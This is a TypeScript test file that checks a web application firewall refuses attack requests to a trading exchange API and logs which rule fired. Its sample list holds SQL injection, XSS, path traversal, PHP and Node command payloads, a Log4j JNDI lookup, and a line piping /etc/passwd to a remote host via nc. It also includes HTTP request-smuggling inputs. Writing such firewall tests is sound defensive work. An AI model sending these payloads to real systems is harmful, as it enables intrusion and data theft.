/** Attacks through the firewall of deploy/waf, which names the rule it refused each by; and requests taken for one request. */
import { once } from 'node:events'
import { connect } from 'node:net'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openTradingFloor, type TradingFloor } from '../support/open-trading-floor.ts'
import { openWaf, type OpenWaf } from '../support/open-waf.ts'
import { sendRaw, type RawRequest, type SendRaw } from '../support/send-raw.ts'
import { startExchange, type RunningExchange } from '../support/start-exchange.ts'

let exchange: RunningExchange
let waf: OpenWaf
let floor: TradingFloor
let send: SendRaw
beforeAll(async () => {
  exchange = await startExchange()
  waf = await openWaf(exchange.url)
  floor = await openTradingFloor(exchange, { suppliers: 1 })
  send = sendRaw(waf.url)
})
afterAll(async () => {
  await waf.close()
  await exchange[Symbol.asyncDispose]()
})

const draft = (name: string): RawRequest => ({
  method: 'POST',
  path: '/v1/products',
  token: floor.suppliers[0]!.owner.token,
  body: { sku: `W-${crypto.randomUUID()}`, name: { en: name } },
})
const search = (q: string): RawRequest => ({
  path: `/v1/products?q=${encodeURIComponent(q)}`,
  token: floor.buyer.owner.token,
})

const document = (query: string, variables: object = {}): RawRequest => ({
  method: 'POST',
  path: '/graphql',
  token: floor.buyer.owner.token,
  body: { query, variables },
})
const inVariable = (q: string): RawRequest =>
  document('query($q: String) { products(query: $q, first: 1) { nodes { id } } }', { q })
const inDocument = (q: string): RawRequest =>
  document(`{ products(query: ${JSON.stringify(q)}, first: 1) { nodes { id } } }`)

/** By what the set calls the family of rules that has to speak. */
const samples: readonly (readonly [what: string, family: RegExp, request: () => RawRequest])[] = [
  ['SQL, in a query', /^942/, () => search("1' UNION SELECT password FROM users--")],
  ['SQL, in a body', /^942/, () => draft("x' OR 1=1; DROP TABLE products--")],
  ['operators of MongoDB', /^942290$/, () => ({ path: '/v1/products?brand[$ne]=1' })],
  ['a script, in a query', /^941/, () => search('<script>alert(document.cookie)</script>')],
  ['a script, in a body', /^941/, () => draft('<img src=x onerror=alert(1)>')],
  ['a command of the shell', /^932/, () => search('; cat /etc/passwd | nc 203.0.113.9 4444')],
  ['a path that climbs', /^930/, () => search('../../../../etc/passwd')],
  ['a file of the system', /^930/, () => ({ path: '/.env' })],
  ['code of PHP', /^933/, () => search('<?php system($_GET["c"]); ?>')],
  ['code of Node', /^93[34]/, () => draft('require("child_process").exec("id")')],
  ['a script, in a variable of GraphQL', /^941/, () => inVariable('<script>alert(1)</script>')],
  ['SQL, in a document of GraphQL', /^942/, () => inDocument("1' UNION SELECT password FROM users--")],
  ['a lookup of Log4j', /^(944150|932130)$/, () => search('${jndi:ldap://evil.example/a}')],
  ['a scanner', /^913/, () => ({ path: '/v1/products', headers: { 'user-agent': 'sqlmap/1.7' } })],
  ['a splitting header', /^921/, () => search('x\r\nSet-Cookie: a=b')],
]

test.each(samples)('%s is refused with the number of a rule in the log', async (what, family, request) => {
  const before = waf.blocked().length
  const answer = await send(request())
  expect([what, answer.status]).toEqual([what, 403])
  await expect.poll(() => waf.blocked().length).toBe(before + 1)
  const { rules } = waf.blocked().at(-1)!
  expect(
    rules.some((rule) => family.test(rule)),
    String(rules),
  ).toBe(true)
})

test('what the exchange refuses by itself comes through as its own problem', async () => {
  const before = waf.blocked().length
  expect(await send({ path: '/v1/orders' })).toMatchObject({ status: 401, body: { code: 'gateway/not-signed-in' } })
  const broken = { ...draft('x'), body: '{"sku":' }
  expect(await send(broken)).toMatchObject({ status: 400, body: { code: 'gateway/malformed-body' } })
  const put = { method: 'PUT', path: '/v1/products/x', body: {}, token: floor.buyer.owner.token }
  expect((await send(put)).status).toBe(400)
  expect(waf.blocked().length).toBe(before)
})

/** What one connection is answered, until it ends or has been silent for a second. */
async function answersTo(bytes: string): Promise<string> {
  const { hostname, port } = new URL(waf.url)
  const socket = connect(Number(port), hostname)
  await once(socket, 'connect')
  socket.setTimeout(1_000, () => socket.destroySoon())
  socket.write(bytes)
  return text(socket).catch(() => '')
}

test.each([
  ['two lengths', 'Content-Length: 4\r\nContent-Length: 44\r\n'],
  ['a length and chunks', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n'],
  ['chunks by another name', 'Transfer-Encoding: xchunked\r\n'],
  ['chunks twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n'],
])('21. %s: one answer, no second request inside the first', async (_what, headers) => {
  const smuggled = 'GET /v1/smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
  const body = `0\r\n\r\n${smuggled}`
  const answers = await answersTo(`POST /v1/auth/token HTTP/1.1\r\nHost: exchange.example\r\n${headers}\r\n${body}`)
  expect(answers.match(/^HTTP\/1\.1 (4\d\d|501)/gm) ?? [], answers).toHaveLength(1)
  expect(exchange.output()).not.toContain('smuggled')
})
